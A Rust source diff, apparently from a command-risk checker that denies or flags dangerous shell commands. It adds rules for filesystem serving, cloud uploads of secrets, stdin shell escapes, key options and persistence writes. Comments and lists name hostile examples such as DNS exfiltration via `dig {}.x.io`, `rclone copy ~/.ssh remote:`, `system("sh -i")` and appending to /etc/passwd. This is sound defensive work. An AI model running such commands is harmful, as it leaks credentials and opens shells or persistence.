+    }
+}
+
+/// [`carried_data`] of a file given as standard input (`xargs -I{} dig {}.x.io < FILE`).
+pub(crate) fn carried_file(f: &str) -> (u8, bool) {
+    if upload_secret(f) {
+        return (2, true);
+    }
+    let n = paths::normalize(f);
+    let under = |d: &str| n == d || n.strip_prefix(d).is_some_and(|r| r.starts_with('/'));
+    if under("/etc") || under("/proc") || under("/root") {
+        (2, false)
+    } else {
+        (u8::from(paths::outside_project(f)), false)
     }
 }
 
@@ -3663,40 +4266,149 @@ fn kernel_knob_write(key_or_path: &str, value: Option<&str>, j: &mut Judged) {
 
 /// `python -m http.server --directory /`: the root, a home (not a directory inside it), the
 /// homes or system configuration served to the network.
-fn http_server_rules(c: &SimpleCommand, j: &mut Judged) {
+/// The directory a one-line file server serves: `python -m http.server --directory DIR`,
+/// busybox `httpd -h DIR`, `php -S ADDR -t DIR`, `ruby -run -e httpd DIR`, `http-server DIR`.
+fn served_directory<'a>(args: &[&'a str], name: &str) -> Option<&'a str> {
+    let value = |short: &str, long: &str| {
+        args.iter().enumerate().find_map(|(i, a)| {
+            if *a == short || (!long.is_empty() && *a == long) {
+                args.get(i + 1).copied()
+            } else if !long.is_empty() {
+                a.strip_prefix(long).and_then(|r| r.strip_prefix('='))
+            } else {
+                None
+            }
+        })
+    };
+    match name {
+        "httpd" => value("-h", ""),
+        "php" if args.contains(&"-S") => value("-t", "--docroot"),
+        "ruby" => {
+            let at = args
+                .windows(2)
+                .position(|w| w[0] == "-e" && w[1] == "httpd")
+                .map(|p| p + 2)
+                .or_else(|| args.iter().position(|a| *a == "-ehttpd").map(|p| p + 1))?;
+            args.get(at..)?
+                .iter()
+                .find(|a| !a.starts_with('-'))
+                .copied()
+        }
+        "http-server" => args.iter().find(|a| !a.starts_with('-')).copied(),
+        _ if args
+            .windows(2)
+            .any(|w| w[0] == "-m" && matches!(w[1], "http.server" | "SimpleHTTPServer")) =>
+        {
+            value("-d", "--directory")
+        }
+        _ => None,
+    }
+}
+
+fn http_server_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
     let args = Args::new(c);
-    if !args
-        .windows(2)
-        .any(|w| w[0] == "-m" && matches!(w[1], "http.server" | "SimpleHTTPServer"))
-    {
+    let Some(dir) = served_directory(&args, name) else {
+        return;
+    };
+    let n = paths::normalize(dir);
+    let system = n == "/var"
+        || n == "/home"
+        || ["/etc", "/proc", "/sys", "/root", "/boot"]
+            .iter()
+            .any(|d| n == *d || n.strip_prefix(d).is_some_and(|r| r.starts_with('/')));
+    let exposed = system
+        || matches!(paths::target(&n, false), Target::Root | Target::Home)
+        || paths::read_class(&n) == ReadClass::Secret;
+    if exposed {
+        j.hit_alt(
+            "net.serve-filesystem",
+            Decision::Deny,
+            Risk::Critical,
+            C_UPLOAD | C_READ,
+            "serves the root, a home or system files to the network",
+            "serve a directory of the project (--directory ./public) on 127.0.0.1",
+        );
+    }
+}
+
+/// The database file of `sqlite3 [OPTIONS] [FILE] [SQL]`; `None` when it names none (an
+/// in-memory database).
+fn sqlite_database(c: &SimpleCommand) -> Option<&toolcap_shell::Word> {
+    let mut args = c.argv.iter().skip(1);
+    while let Some(w) = args.next() {
+        let a = w.text.as_str();
+        if a == "--" {
+            return args.next();
+        }
+        if a.starts_with('-') && a.len() > 1 {
+            if matches!(
+                a.trim_start_matches('-'),
+                "cmd"
+                    | "init"
+                    | "separator"
+                    | "newline"
+                    | "nullvalue"
+                    | "escape"
+                    | "vfs"
+                    | "maxsize"
+                    | "mmap"
+                    | "heap"
+                    | "lookaside"
+                    | "pagecache"
+            ) {
+                args.next();
+            }
+            continue;
+        }
+        return Some(w);
+    }
+    None
+}
+
+/// `aws s3 sync ~ s3://bucket/home`, `gsutil -m cp -r / gs://b`, `rclone copy ~/.ssh remote:`:
+/// a whole home, the root, `/etc` or a secret copied to cloud storage.
+fn cloud_upload_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
+    let args = Args::new(c);
+    let copies = match name {
+        "aws" => args.contains(&"s3") && args.iter().any(|a| matches!(*a, "cp" | "sync" | "mv")),
+        "gsutil" | "s3cmd" => args
+            .iter()
+            .any(|a| matches!(*a, "cp" | "rsync" | "mv" | "put" | "sync")),
+        "rclone" => args
+            .iter()
+            .any(|a| matches!(*a, "copy" | "sync" | "move" | "copyto")),
+        "az" => args.contains(&"upload-batch") || args.contains(&"upload"),
+        _ => false,
+    };
+    if !copies {
         return;
     }
-    for (i, a) in args.iter().enumerate() {
-        let dir = match *a {
-            "-d" | "--directory" => args.get(i + 1).copied(),
-            _ => a.strip_prefix("--directory="),
-        };
-        let Some(dir) = dir else { continue };
-        let n = paths::normalize(dir);
-        let system = n == "/var"
-            || n == "/home"
-            || ["/etc", "/proc", "/sys", "/root", "/boot"]
-                .iter()
-                .any(|d| n == *d || n.strip_prefix(d).is_some_and(|r| r.starts_with('/')));
-        let exposed = system
-            || matches!(paths::target(&n, false), Target::Root | Target::Home)
-            || paths::read_class(&n) == ReadClass::Secret;
-        if exposed {
-            j.hit_alt(
-                "net.serve-filesystem",
-                Decision::Deny,
-                Risk::Critical,
-                C_UPLOAD | C_READ,
-                "serves the root, a home or system files to the network",
-                "serve a directory of the project (--directory ./public) on 127.0.0.1",
-            );
-            return;
-        }
+    let remote = |a: &str| a.contains("://") || (name == "rclone" && a.contains(':'));
+    let ops: Vec<&str> = args
+        .iter()
+        .copied()
+        .filter(|a| !a.starts_with('-'))
+        .collect();
+    let local_secret = |a: &str| {
+        !remote(a) && (a.starts_with(['/', '~', '$']) || a.contains('/')) && upload_secret(a)
+    };
+    let sends = ops
+        .iter()
+        .rposition(|a| remote(a))
+        .is_some_and(|at| ops.iter().take(at).any(|a| local_secret(a)));
+    let az_source = name == "az"
+        && args
+            .windows(2)
+            .any(|w| matches!(w[0], "--source" | "-s" | "--file" | "-f") && upload_secret(w[1]));
+    if sends || az_source {
+        j.hit_alt(
+            "net.upload-file",
+            Decision::Deny,
+            Risk::Critical,
+            C_UPLOAD | Capabilities::FILE_READ,
+            "copies a whole home, the root, /etc or a secret to cloud storage",
+            "copy only the project files the bucket needs",
+        );
     }
 }
 
@@ -3937,35 +4649,317 @@ fn read_exempt(name: &str) -> bool {
     )
 }
 
+/// A shell started from commands fed on standard input to a program that runs them: the
+/// `!/bin/sh` escape of `ed`, `ftp`, `gdb`, `mysql`, `psql` (`\\! sh`), `cpan`, `.shell sh` of
+/// `sqlite3`, or an interpreter's or REPL's `exec "/bin/sh"` (`irb`, `ghci`, `tclsh`). `text`
+/// is the here-document, here-string or the piped `echo`/`printf` output.
+pub(crate) fn stdin_shell_escape(name: &str, text: &str) -> bool {
+    // `printf '!/bin/sh\n'`: the escapes of a format are the lines it prints.
+    let text: std::borrow::Cow<'_, str> = if text.contains("\\n") {
+        text.replace("\\n", "\n").into()
+    } else {
+        text.into()
+    };
+    let text = text.as_ref();
+    let shell_word = |w: &str| {
+        let w = w.trim_matches(|ch| matches!(ch, '"' | '\'' | '(' | ')' | ';' | ','));
+        is_shell(w.rsplit('/').next().unwrap_or(w)) && !w.is_empty()
+    };
+    let shell_path = [
+        "/bin/sh",
+        "/bin/bash",
+        "/bin/dash",
+        "/bin/zsh",
+        "/bin/ksh",
+        "/bin/ash",
+    ]
+    .iter()
+    .any(|p| text.contains(p));
+    // A command line of the program's own shell escape whose command is a shell.
+    let escape = |prefixes: &[&str]| {
+        text.lines().any(|l| {
+            let l = l.trim_start();
+            prefixes.iter().any(|p| {
+                l.strip_prefix(p).is_some_and(|rest| {
+                    let mut words = rest.split_whitespace();
+                    match words.next() {
+                        Some("exec") => words.next().is_some_and(shell_word),
+                        Some(w) => shell_word(w),
+                        None => false,
+                    }
+                })
+            })
+        })
+    };
+    match name {
+        "ed" | "red" | "ex" | "ftp" | "lftp" | "tftp" | "sftp" | "cpan" | "gdb" | "mail"
+        | "mailx" => escape(&["!"]),
+        "mysql" | "mariadb" | "psql" => escape(&["\\!", "system ", "\\system "]),
+        "sqlite3" => escape(&[".shell ", ".system "]),
+        _ if is_interpreter(name)
+            || matches!(
+                name,
+                "irb" | "ghci" | "tclsh" | "wish" | "jshell" | "R" | "Rscript"
+            ) =>
+        {
+            shell_path
+                || text
+                    .split(|ch: char| ch.is_whitespace() || matches!(ch, '(' | ')' | ','))
+                    .any(|w| matches!(w, "\"sh\"" | "'sh'" | "\"bash\"" | "'bash'"))
+        }
+        _ => false,
+    }
+}
+
+/// True when `name` reads the files its arguments name as far as the secret-reader rules are
+/// concerned (not a metadata or key-using program of [`read_exempt`]).
+pub(crate) fn reads_argument_files(c: &SimpleCommand, name: &str) -> bool {
+    !name.is_empty() && (!read_exempt(name) || !read_exempt_for(c, name))
+}
+
+/// An archiver or copier that reads the files named on its standard input: `cpio -o`,
+/// `tar -T -`, `zip -@`, `rsync --files-from=-`.
+pub(crate) fn reads_file_list(c: &SimpleCommand, name: &str) -> bool {
+    let args = Args::new(c);
+    let stdin_list = |i: usize| {
+        args.get(i + 1)
+            .is_some_and(|v| matches!(*v, "-" | "/dev/stdin"))
+    };
+    match name {
+        "cpio" => args.iter().any(|a| {
+            *a == "--create" || (a.starts_with('-') && !a.starts_with("--") && a.contains('o'))
+        }),
+        "zip" => args.contains(&"-@"),
+        "tar" | "gtar" | "bsdtar" => args.iter().enumerate().any(|(i, a)| {
+            ((*a == "-T" || *a == "--files-from") && stdin_list(i))
+                || matches!(*a, "--files-from=-" | "--files-from=/dev/stdin" | "-T-")
+        }),
+        "rsync" => args.iter().enumerate().any(|(i, a)| {
+            (*a == "--files-from" && stdin_list(i))
+                || matches!(*a, "--files-from=-" | "--files-from=/dev/stdin")
+        }),
+        _ => false,
+    }
+}
+
+/// True for a path (or glob) whose content is a secret.
+pub(crate) fn is_secret_path(p: &str) -> bool {
+    paths::read_class(p) == ReadClass::Secret
+}
+
 /// The exemption of [`read_exempt`] names, less `openssl` reading a file out through `enc`,
-/// `base64` or `s_client`.
+/// `base64` or `s_client` and `git diff` (which prints files outside a repository).
 fn read_exempt_for(c: &SimpleCommand, name: &str) -> bool {
-    name != "openssl"
-        || !c
+    match name {
+        "openssl" => !c
             .args()
-            .any(|a| a == "enc" || a == "base64" || a == "s_client")
+            .any(|a| a == "enc" || a == "base64" || a == "s_client"),
+        // `git diff /dev/null /etc/shadow` prints the files outside a repository.
+        "git" => !c.args().any(|a| a == "diff" || a == "--no-index"),
+        _ => true,
+    }
+}
+
+/// How a tool names the files it authenticates with: options whose value is an identity file
+/// (a private key or client certificate the tool uses for its purpose, not data it reads out),
+/// or a command the parser judges as a part of its own (`rsync -e "ssh -i key"`).
+struct KeyOptions {
+    /// Short option letters that take a value, so that clusters (`-Ci key`, `-ikey`) are read
+    /// as getopt reads them.
+    short_valued: &'static str,
+    /// The letters among them whose value is an identity file (`-i`).
+    short_identity: &'static str,
+    /// Long options whose value is an identity file, as `--opt FILE` or `--opt=FILE`.
+    long_identity: &'static [&'static str],
+    /// `-o IdentityFile=FILE` (ssh_config syntax; `sshfs` lists several, comma-separated).
+    ssh_config: bool,
+    /// Options whose value is a command (`-e CMD`, `--rsh=CMD`), exactly as the parser unwraps
+    /// them: the command is judged on its own.
+    command: &'static [&'static str],
+}
+
+/// The ssh family's getopt letters that take a value (`ssh`, `scp`, `sftp`, `autossh`).
+const SSH_VALUED: &str = "BbcDEeFIiJLlMmOoPpQRSsWw";
+
+fn key_options(name: &str) -> Option<KeyOptions> {
+    const NONE: &[&str] = &[];
+    let ssh = KeyOptions {
+        short_valued: SSH_VALUED,
+        short_identity: "i",
+        long_identity: NONE,
+        ssh_config: true,
+        command: NONE,
+    };
+    Some(match name {
+        "scp" => KeyOptions {
+            short_valued: "cDFiJloPSX",
+            ..ssh
+        },
+        "sftp" => KeyOptions {
+            short_valued: "BbcDFiJloPRSX",
+            ..ssh
+        },
+        "autossh" => ssh,
+        "sshfs" => KeyOptions {
+            short_valued: "op",
+            short_identity: "",
+            ..ssh
+        },
+        "rsync" => KeyOptions {
+            short_valued: "",
+            short_identity: "",
+            long_identity: NONE,
+            ssh_config: false,
+            command: &["-e", "--rsh", "--rsync-path"],
+        },
+        "ansible" | "ansible-playbook" | "ansible-pull" | "ansible-console"
+        | "ansible-inventory" => KeyOptions {
+            short_valued: "",
+            short_identity: "",
+            long_identity: &["--private-key", "--key-file"],
+            ssh_config: false,
+            command: NONE,
+        },
+        "curl" => KeyOptions {
+            short_valued: "",
+            short_identity: "",
+            long_identity: &["--key", "--cert", "-E", "--proxy-key", "--proxy-cert"],
+            ssh_config: false,
+            command: NONE,
+        },
+        // `openssl s_client -cert c.pem -key k.pem`: the client certificate of a TLS handshake.
+        "openssl" => KeyOptions {
+            short_valued: "",
+            short_identity: "",
+            long_identity: &["-key", "-cert", "-cert_chain", "-CAfile"],
+            ssh_config: false,
+            command: NONE,
+        },
+        // The cluster credentials a client uses for its own API (`aws --profile` likewise).
+        "kubectl" | "helm" | "k9s" => KeyOptions {
+            short_valued: "",
+            short_identity: "",
+            long_identity: &["--kubeconfig"],
+            ssh_config: false,
+            command: NONE,
+        },
+        // `git -c core.sshCommand="ssh -i KEY"`: configuration, judged by the git rules.
+        "git" => KeyOptions {
+            short_valued: "",
+            short_identity: "",
+            long_identity: NONE,
+            ssh_config: false,
+            command: &["-c"],
+        },
+        "wget" => KeyOptions {
+            short_valued: "",
+            short_identity: "",
+            long_identity: &["--private-key", "--certificate"],
+            ssh_config: false,
+            command: NONE,
+        },
+        _ => return None,
+    })
+}
+
+/// An ssh_config option (`IdentityFile=~/.ssh/k`, `IdentityFile ~/.ssh/k`; for `sshfs` a comma
+/// list) that names only identity files among the secrets it mentions.
+fn ssh_identity_option(value: &str, commas: bool) -> bool {
+    let identity = |item: &str| {
+        let item = item.trim();
+        let (key, _) = item.split_once(['=', ' ', '\t']).unwrap_or((item, ""));
+        key.eq_ignore_ascii_case("IdentityFile") || key.eq_ignore_ascii_case("CertificateFile")
+    };
+    let mut items = value.split(if commas { ',' } else { '\u{0}' });
+    let mut any = false;
+    let ok = items.all(|item| {
+        let id = identity(item);
+        any |= id;
+        id || paths::read_class(item.split_once('=').map_or(item, |(_, v)| v)) != ReadClass::Secret
+    });
+    any && ok
+}
+
+/// The arguments (bit `i` for `argv[i + 1]`) that are a tool's identity files or an unwrapped
+/// command, per [`key_options`]: `read.sensitive` does not count them as reads. A key given as
+/// a file to copy or send (`scp ~/.ssh/id_rsa host:`) is an operand and still counts.
+fn key_option_args(c: &SimpleCommand, name: &str) -> u64 {
+    let Some(k) = key_options(name) else {
+        return 0;
+    };
+    let args = Args::new(c);
+    let mut mask = 0u64;
+    let mut mark = |i: usize| {
+        if i < 64 {
+            mask |= 1 << i;
+        }
+    };
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i];
+        if a == "--" {
+            break;
+        }
+        if k.command.contains(&a) || k.long_identity.contains(&a) {
+            mark(i + 1);
+            i += 2;
+            continue;
+        }
+        if let Some((opt, _)) = a.split_once('=')
+            && (k.command.contains(&opt) || k.long_identity.contains(&opt))
+            && opt.starts_with("--")
+        {
+            mark(i);
+        } else if a.len() > 1 && a.starts_with('-') && !a.starts_with("--") {
+            for (at, ch) in a.char_indices().skip(1) {
+                if !k.short_valued.contains(ch) {
+                    continue;
+                }
+                let rest = &a[at + ch.len_utf8()..];
+                let (value, at_arg) = if rest.is_empty() {
+                    i += 1;
+                    (args.get(i).copied().unwrap_or(""), i)
+                } else {
+                    (rest, i)
+                };
+                if k.short_identity.contains(ch)
+                    || (ch == 'o' && k.ssh_config && ssh_identity_option(value, name == "sshfs"))
+                {
+                    mark(at_arg);
+                }
+                break;
+            }
+        }
+        i += 1;
+    }
+    mask
 }
 
 fn read_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
     let mut worst = ReadClass::Plain;
-    for w in c.argv.iter().skip(1) {
-        let t = w.text.as_str();
-        let t = t.strip_prefix('@').unwrap_or(t);
-        let t = t
-            .split_once('=')
-            .filter(|(k, _)| k.starts_with('-') || matches!(*k, "if" | "file" | "source" | "src"))
-            .map_or(t, |(_, v)| v);
-        let t = t.strip_prefix('@').unwrap_or(t);
-        worst = worst.max(paths::read_class(t));
-        // `scp host:~/.ssh/id_rsa .` reads a remote secret.
-        if let Some((host, p)) = t.split_once(':')
-            && !host.contains('/')
-            && !p.is_empty()
-            && paths::read_class(p) == ReadClass::Secret
-            && name != "docker"
-        {
-            worst = ReadClass::Secret;
+    let keys = key_option_args(c, name);
+    for (i, w) in c.argv.iter().skip(1).enumerate() {
+        if i < 64 && keys & (1 << i) != 0 {
+            continue;
         }
+        // `-var "key=$(cat ~/.ssh/id_rsa.pub)"`: the word around a substitution
+        // (`/proc/$(pidof sshd)/maps`) and the words inside it (`$(echo ~/.ssh/id_rsa)`) are
+        // judged apart; the text as a whole ends in `.pub)`, not in `.pub`.
+        if w.dynamic
+            && (w.text.contains("$(") || w.text.contains('`'))
+            && let Some((outer, inner)) = split_substitutions(&w.text)
+        {
+            worst = worst.max(read_word_class(&outer, name));
+            for t in inner
+                .iter()
+                .flat_map(|i| i.split(|ch: char| ch.is_whitespace() || "`\"';|<>".contains(ch)))
+                .filter(|t| !t.is_empty())
+            {
+                worst = worst.max(read_word_class(t, name));
+            }
+            continue;
+        }
+        worst = worst.max(read_word_class(&w.text, name));
     }
     match worst {
         ReadClass::Secret => j.deny(
@@ -3976,6 +4970,112 @@ fn read_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
         ReadClass::ProjectEnv => j.ask("read.env-file", C_READ, "reads the project's .env secrets"),
         ReadClass::Plain => {}
     }
+}
+
+/// A word with each `$(...)` and `` `...` `` replaced by `x`, and the substitutions' texts;
+/// `None` when one does not close.
+fn split_substitutions(word: &str) -> Option<(String, Vec<&str>)> {
+    let mut outer = String::with_capacity(word.len());
+    let mut inner = Vec::new();
+    let mut rest = word;
+    loop {
+        let dollar = rest.find("$(");
+        let tick = rest.find('`');
+        let (at, backtick) = match (dollar, tick) {
+            (Some(d), Some(t)) if t < d => (t, true),
+            (Some(d), _) => (d, false),
+            (None, Some(t)) => (t, true),
+            (None, None) => break,
+        };
+        outer.push_str(rest.get(..at)?);
+        outer.push('x');
+        if backtick {
+            let body = rest.get(at + 1..)?;
+            let end = body.find('`')?;
+            inner.push(body.get(..end)?);
+            rest = body.get(end + 1..)?;
+            continue;
+        }
+        let body = rest.get(at + 2..)?;
+        let mut depth = 1usize;
+        let end = body.char_indices().find_map(|(k, ch)| {
+            match ch {
+                '(' => depth += 1,
+                ')' => depth -= 1,
+                _ => {}
+            }
+            (depth == 0).then_some(k)
+        })?;
+        inner.push(body.get(..end)?);
+        rest = body.get(end + 1..)?;
+    }
+    outer.push_str(rest);
+    Some((outer, inner))
+}
+
+/// What reading one argument of `name` reads: the path itself, the value of `--opt=PATH`,
+/// `if=PATH`, `@PATH`, or a remote secret (`scp host:~/.ssh/id_rsa .`).
+fn read_word_class(t: &str, name: &str) -> ReadClass {
+    let t = t.strip_prefix('@').unwrap_or(t);
+    let t = t
+        .split_once('=')
+        .filter(|(k, _)| k.starts_with('-') || matches!(*k, "if" | "file" | "source" | "src"))
+        .map_or(t, |(_, v)| v);
+    let t = t.strip_prefix('@').unwrap_or(t);
+    let own = paths::read_class(t);
+    // `scp host:~/.ssh/id_rsa .` reads a remote secret.
+    if let Some((host, p)) = t.split_once(':')
+        && !host.contains('/')
+        && !p.is_empty()
+        && paths::read_class(p) == ReadClass::Secret
+        && name != "docker"
+    {
+        return ReadClass::Secret;
+    }
+    own
+}
+
+/// `awk -v F=/etc/passwd 'BEGIN { print "x" >> F }'`: a file named by a `-v` variable that the
+/// program prints into.
+fn awk_variable_writes(c: &SimpleCommand, code: &str, j: &mut Judged) {
+    let args = Args::new(c);
+    for (i, a) in args.iter().enumerate() {
+        let assign = match *a {
+            "-v" => args.get(i + 1).copied(),
+            _ => a.strip_prefix("-v").filter(|r| r.contains('=')),
+        };
+        let Some((var, path)) = assign.and_then(|v| v.split_once('=')) else {
+            continue;
+        };
+        let printed_into = code.match_indices('>').any(|(at, _)| {
+            let rest = code.get(at + 1..).unwrap_or("");
+            let rest = rest.strip_prefix('>').unwrap_or(rest).trim_start();
+            rest.strip_prefix(var)
+                .is_some_and(|r| !r.starts_with(|ch: char| ch.is_ascii_alphanumeric() || ch == '_'))
+        });
+        if printed_into {
+            write_target(path, j);
+        }
+    }
+}
+
+/// True when code calls `system`, `exec`, `spawn`, `popen` or `execute` with a string literal
+/// whose command is a shell (`system("sh -i")`).
+fn code_spawns_shell(code: &str) -> bool {
+    ["system(", "exec(", "spawn(", "popen(", "execute("]
+        .iter()
+        .any(|call| {
+            code.match_indices(call).any(|(at, _)| {
+                let rest = code.get(at + call.len()..).unwrap_or("").trim_start();
+                let Some(q) = rest.chars().next().filter(|q| matches!(q, '"' | '\'')) else {
+                    return false;
+                };
+                let body = rest.get(1..).unwrap_or("");
+                let lit = body.split(q).next().unwrap_or("");
+                let first = lit.split_whitespace().next().unwrap_or("");
+                is_shell(first.rsplit('/').next().unwrap_or(first))
+            })
+        })
 }
 
 /// Inline interpreter code: reverse shells, download-and-run, secret reads, setuid.
@@ -4084,6 +5184,43 @@ fn code_rules(code: &str, j: &mut Judged) {
             "privilege.setuid",
             C_PRIV,
             "inline code switches to root (setuid)",
+        );
+    }
+    // `open("/etc/cron.d/x","w")`, `File.write("/root/.ssh/authorized_keys", k)`,
+    // `fs.appendFileSync("~/.bashrc", ...)`, `open(F, ">>/etc/passwd")`: code writes an access,
+    // start-up or persistence file.
+    let writes = [
+        "\"w\"",
+        "'w'",
+        "\"a\"",
+        "'a'",
+        "\"w+\"",
+        "'w+'",
+        "\"a+\"",
+        "'a+'",
+        "\"wb\"",
+        "'wb'",
+        "File.write",
+        "writeFile",
+        "appendFile",
+        "file_put_contents",
+        ">>",
+        "\">\"",
+        "'>'",
+    ]
+    .iter()
+    .any(|m| code.contains(m));
+    if writes
+        && code
+            .split(|ch: char| ch.is_whitespace() || "\"'(),;`[]{}<>|+".contains(ch))
+            .any(|tok| {
+                tok.starts_with(['/', '~']) && paths::write_class(tok) == WriteClass::Sensitive
+            })
+    {
+        j.deny(
+            "write.sensitive",
+            C_WRITE | Capabilities::PERSISTENCE,
+            "inline code writes a file that grants access or persists",
         );
     }
     let mut secret = false;
